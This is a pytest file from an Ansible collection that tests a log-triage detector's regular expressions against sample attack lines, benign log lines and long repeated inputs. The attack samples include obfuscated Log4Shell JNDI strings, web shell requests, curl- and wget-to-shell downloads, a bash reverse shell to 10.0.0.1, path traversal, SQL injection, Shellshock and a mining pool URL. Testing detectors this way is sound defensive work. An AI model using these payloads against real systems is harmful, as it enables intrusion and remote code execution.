# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import re
import time

import pytest

from ansible_collections.cordon.docker.plugins.module_utils._triage.patterns import PATTERNS

COMPILED = [re.compile(pattern, re.IGNORECASE) for pattern in PATTERNS]


@pytest.mark.parametrize(
    "line",
    [
        "agent=${jndi:ldap://10.0.0.1/a}",
        "agent=${${lower:j}ndi:${lower:l}dap://10.0.0.1/a}",
        "agent=${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://10.0.0.1/a}",
        "agent=${${env:NaN:-j}ndi${env:NaN:-:}ldap://10.0.0.1/a}",
        r"agent=\u0024\u007b\u006a\u006e\u0064\u0069:dns://10.0.0.1/a}",
        "GET /?x=%24%7Bjndi%3Aldap%3A//10.0.0.1/a%7D: HTTP/1.1",
        "GET /uploads/shell.php?cmd=id HTTP/1.1",
        "GET /x.php?a=1&c=whoami HTTP/1.1",
        "sh -c curl -s http://10.0.0.1/a | bash",
        "wget -qO- http://10.0.0.1/x|sh",
        "echo aWQ= | base64 -d",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "GET /../../../../etc/passwd HTTP/1.1",
        "id=1 UNION ALL SELECT 1,2",
        "id=1+union+select+1",
        "page=php://filter/convert.base64-encode/resource=index",
        "() { :; }; /bin/id",
        "stratum+tcp://pool:3333",
    ],
)
def test_attacks_are_gathered(line: str) -> None:
    assert any(pattern.search(line) for pattern in COMPILED)


@pytest.mark.parametrize(
    "line",
    [
        '172.17.0.1 - - [25/Nov/2026:01:51:02 +0000] "GET /index.html HTTP/1.1" 200 213 "-" "Mozilla/5.0"',
        "2026-11-25T01:51:03Z INFO [billing] invoice 1 packed",
        "1:M 25 Nov 2026 01:51:02.640 * Ready to accept connections",
        "curl/7.88.1 asked for /health",
        "price is $12.50",
        "GET /search?q=union+station HTTP/1.1",
    ],
)
def test_ordinary_lines_are_not(line: str) -> None:
    assert not any(pattern.search(line) for pattern in COMPILED)


@pytest.mark.parametrize("unit", ["${", "$", "../", "union ", "curl ", "${j", "%24%7b", "<script "])
def test_no_line_takes_long(unit: str) -> None:
    line = unit * (65536 // len(unit))
    began = time.process_time()
    for pattern in COMPILED:
        pattern.search(line)
    assert time.process_time() - began < 2
